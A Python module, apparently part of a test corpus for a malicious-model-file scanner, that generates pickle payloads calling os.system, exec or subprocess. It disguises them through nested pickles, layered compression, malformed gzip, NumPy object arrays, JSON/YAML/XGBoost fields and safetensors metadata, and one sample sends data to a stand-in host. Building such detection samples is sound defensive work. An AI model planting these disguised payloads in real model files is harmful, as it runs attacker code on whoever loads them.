"""Payloads carried inside something: code objects, pickles in pickles, compressed files, arrays of objects, text."""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import struct
import zipfile
import zlib
from collections.abc import Iterator

from .assemble import Call, Ref, planted, written
from .sample import CODE, COMMAND, Sample

__all__ = ["EVIL", "samples"]

EVIL = written(planted(Call("posix.system", COMMAND), {"w": [0.5] * 64}))
CODED = marshal.dumps(compile(CODE, "<model>", "exec"))


def _object_of_code() -> Iterator[tuple[str, object]]:
    loaded = Call("marshal.loads", CODED)
    empty = Call("builtins.dict", [("__builtins__", Call("builtins.__import__", "builtins"))])
    yield "marshal and FunctionType", Call(Call("types.FunctionType", loaded, empty))
    yield "marshal and exec", Call("builtins.exec", loaded)
    yield (
        "marshal, base64 and zlib",
        Call(
            "builtins.exec",
            Call(
                "marshal.loads",
                Call("zlib.decompress", Call("base64.b64decode", base64.b64encode(zlib.compress(CODED)))),
            ),
        ),
    )
    yield "types.FunctionType by copyreg", Call(Call("types.LambdaType", loaded, empty))
    yield "_imp's frozen", Call("builtins.exec", Call("importlib._bootstrap_external._compile_bytecode", CODED))
    yield (
        "a loader's exec_module",
        Call(
            "builtins.exec", Call(Ref("importlib._bootstrap_external", "SourceLoader.source_to_code"), None, CODE, "m")
        ),
    )
    yield (
        "joblib's own cloudpickle builds a function",
        Call(Call("joblib.externals.cloudpickle.cloudpickle._make_function", loaded, empty, "f", None, None)),
    )
    yield (
        "cloudpickle._make_function",
        Call(Call(Call("cloudpickle.cloudpickle._builtin_type", "FunctionType"), loaded, empty)),
    )


def _by_pickler() -> Iterator[tuple[str, bytes]]:
    try:
        import cloudpickle
        import dill
    except ImportError:
        return
    scope: dict[str, object] = {"__name__": "__main__"}
    source = f"class Model:\n def __reduce__(self):\n  import os\n  return os.system, ('{COMMAND}',)\n"
    exec(source, scope)  # a class of __main__, as a notebook has
    yield "cloudpickle of a class that reduces", cloudpickle.dumps(scope["Model"]())
    exec(f"def predict(x, side={CODE!r}):\n exec(side)\n return x\n", scope)
    yield "cloudpickle of a predict function that executes", cloudpickle.dumps(scope["predict"])
    exec("def predict(x):\n import subprocess\n return subprocess.getoutput(x)\n", scope)
    yield "dill of a predict function that runs commands", dill.dumps(scope["predict"], recurse=True)
    exec("def send(x):\n import urllib.request as u\n return u.urlopen('http://192.0.2.77/?' + str(x)).read()\n", scope)
    yield "cloudpickle of a predict function that sends", cloudpickle.dumps({"predict": scope["send"]})
    yield "dill._eval_repr", written(Call("dill._dill._eval_repr", f"__import__('os').system('{COMMAND}')"))
    yield "dill._import_module", written(Call(Call("dill._dill._import_module", "os.system"), COMMAND))


def _nested() -> Iterator[tuple[str, object]]:
    yield "pickle.loads", Call("pickle.loads", EVIL)
    yield "_pickle.loads of text", Call("_pickle.loads", Call("_codecs.encode", EVIL.decode("latin1"), "latin1"))
    yield (
        "pickle.Unpickler.load",
        Call(Ref("pickle", "Unpickler.load"), Call("pickle.Unpickler", Call("io.BytesIO", EVIL))),
    )
    yield "three deep", Call("pickle.loads", written(Call("pickle.loads", written(Call("pickle.loads", EVIL)))))
    yield "pickle in gzip in pickle", Call("pickle.loads", Call("gzip.decompress", gzip.compress(EVIL)))
    yield (
        "pickle in base85 in bz2",
        Call("pickle.loads", Call("bz2.decompress", Call("base64.b85decode", base64.b85encode(bz2.compress(EVIL))))),
    )
    yield "multiprocessing's ForkingPickler", Call(Ref("multiprocessing.reduction", "ForkingPickler.loads"), EVIL)
    shelved = Call("shelve.Unpickler", Call("io.BytesIO", EVIL))
    yield "shelve's Unpickler", Call(Ref("shelve", "Unpickler.load"), shelved)
    yield "pickle.load of an opened file", Call("pickle.load", Call("builtins.open", "stage2.bin", "rb"))


def _compressed() -> Iterator[tuple[str, str, bytes, str]]:
    yield "gzip", "model.pkl.gz", gzip.compress(EVIL), "joblib"
    yield "zlib, as joblib writes", "model.joblib", zlib.compress(EVIL, 3), "joblib"
    yield "bz2", "model.pkl.bz2", bz2.compress(EVIL), "joblib"
    yield "xz", "model.xz", lzma.compress(EVIL), "joblib"
    yield "lzma alone", "model.lzma", lzma.compress(EVIL, lzma.FORMAT_ALONE), "joblib"
    yield "gzip called .bin", "pytorch_model.bin", gzip.compress(EVIL, mtime=0), "joblib"
    yield "two gzip members", "m.pkl.gz", gzip.compress(EVIL[:40]) + gzip.compress(EVIL[40:]), ""
    yield (
        "gzip with a name and a comment",
        "m.joblib",
        (
            b"\x1f\x8b\x08\x18"
            + bytes(6)
            + b"model\x00comment\x00"
            + zlib.compress(EVIL)[2:-4]
            + struct.pack("<II", zlib.crc32(EVIL), len(EVIL))
        ),
        "joblib",
    )
    yield (
        "gzip with a wrong CRC",
        "m.joblib",
        gzip.compress(EVIL)[:-8] + b"\x00\x01\x02\x03" + struct.pack("<I", len(EVIL)),
        "",
    )
    yield "gzip in bz2 in xz", "model.bin", lzma.compress(bz2.compress(gzip.compress(EVIL))), ""
    try:
        import lz4.frame
    except ImportError:
        return
    yield "LZ4 frame", "model.joblib", lz4.frame.compress(EVIL), ""
    yield (
        "LZ4 frame, many small blocks",
        "model.lz4",
        lz4.frame.compress(EVIL + bytes(200_000), block_size=4, store_size=True),
        "",
    )


def _arrays() -> Iterator[tuple[str, str, bytes]]:
    def npy(shape: str, payload: bytes, descr: str = "'|O'", version: int = 1) -> bytes:
        header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
        width = 2 if version == 1 else 4
        header += " " * (-(len(header) + 7 + width) % 64) + "\n"
        return b"\x93NUMPY" + bytes([version, 0]) + len(header).to_bytes(width, "little") + header.encode() + payload

    yield "object array", "embeddings.npy", npy("(1,)", EVIL)
    yield "object array, version 3", "embeddings.npy", npy("(4, 2)", EVIL, version=3)
    yield "structured array with an object field", "table.npy", npy("(1,)", EVIL, "[('a', '<f4'), ('b', '|O')]")
    yield "object array called .bin", "weights.bin", npy("()", EVIL)
    inside = {"w.npy": npy("(2,)", bytes(16), "'<f8'"), "meta.npy": npy("(1,)", EVIL)}
    for level, name in ((zipfile.ZIP_STORED, "npz, stored"), (zipfile.ZIP_DEFLATED, "npz, deflated")):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", level) as archive:
            for member, data in inside.items():
                archive.writestr(member, data)
        yield name, "params.npz", file.getvalue()
    yield "a numeric array, then a pickle", "stacked.npy", npy("(2,)", bytes(16), "'<f8'") + EVIL
    yield (
        "two arrays in one file, the second of objects",
        "stacked.npy",
        npy("(1,)", bytes(8), "'<f8'") + npy("(1,)", EVIL),
    )


def _text() -> Iterator[tuple[str, str, bytes]]:
    coded = base64.b64encode(EVIL).decode()
    yield "base64 in JSON", "model.json", json.dumps({"name": "clf", "version": 3, "model": coded}).encode()
    yield "base64 in YAML", "model.yaml", f"name: clf\nmodel_b64: |\n  {coded}\n".encode()
    yield "hex in JSON", "model.json", json.dumps({"estimators": [{"pickle": EVIL.hex()}]}).encode()
    yield (
        "base64 in XGBoost's attributes",
        "booster.json",
        json.dumps(
            {
                "learner": {
                    "attributes": {"scikit_learn": coded},
                    "feature_names": [],
                    "feature_types": [],
                    "gradient_booster": {"name": "gblinear", "model": {"weights": [0.1, 0.2]}},
                    "learner_model_param": {"base_score": "5E-1", "num_class": "0", "num_feature": "1"},
                    "objective": {"name": "reg:squarederror", "reg_loss_param": {}},
                },
                "version": [2, 0, 3],
            }
        ).encode(),
    )
    yield (
        "base64 of gzip in JSON",
        "model.json",
        json.dumps({"m": base64.b64encode(gzip.compress(EVIL)).decode()}).encode(),
    )
    header = json.dumps(
        {"__metadata__": {"format": "pt", "state": coded}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    ).encode()
    yield "base64 in safetensors' metadata", "model.safetensors", struct.pack("<Q", len(header)) + header + bytes(8)


def samples() -> Iterator[Sample]:
    for name, value in _object_of_code():
        yield Sample("pickle: code objects", name, {"model.pkl": written(value)}, proof="pickle")
    for name, data in _by_pickler():
        yield Sample("pickle: code objects", name, {"model.pkl": data})
    for name, value in _nested():
        yield Sample("pickle: pickle inside", name, {"model.pkl": written(value)}, proof="pickle")
    for name, file, data, proof in _compressed():
        yield Sample("compressed pickle", name, {file: data}, proof=proof)
    for name, file, data in _arrays():
        yield Sample("numpy: objects", name, {file: data})
    for name, file, data in _text():
        yield Sample("pickle in text", name, {file: data})
